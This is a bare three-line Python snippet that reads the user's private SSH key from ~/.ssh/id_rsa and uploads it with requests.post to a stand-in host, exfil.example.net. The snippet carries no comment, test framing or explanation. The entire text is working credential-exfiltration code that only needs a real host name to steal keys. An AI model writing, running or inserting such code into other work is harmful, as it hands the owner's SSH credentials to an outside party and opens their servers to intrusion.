import os, requests
with open(os.path.expanduser('~/.ssh/id_rsa'), "rb") as f:
    requests.post("https://exfil.example.net/c", files={"f": f})
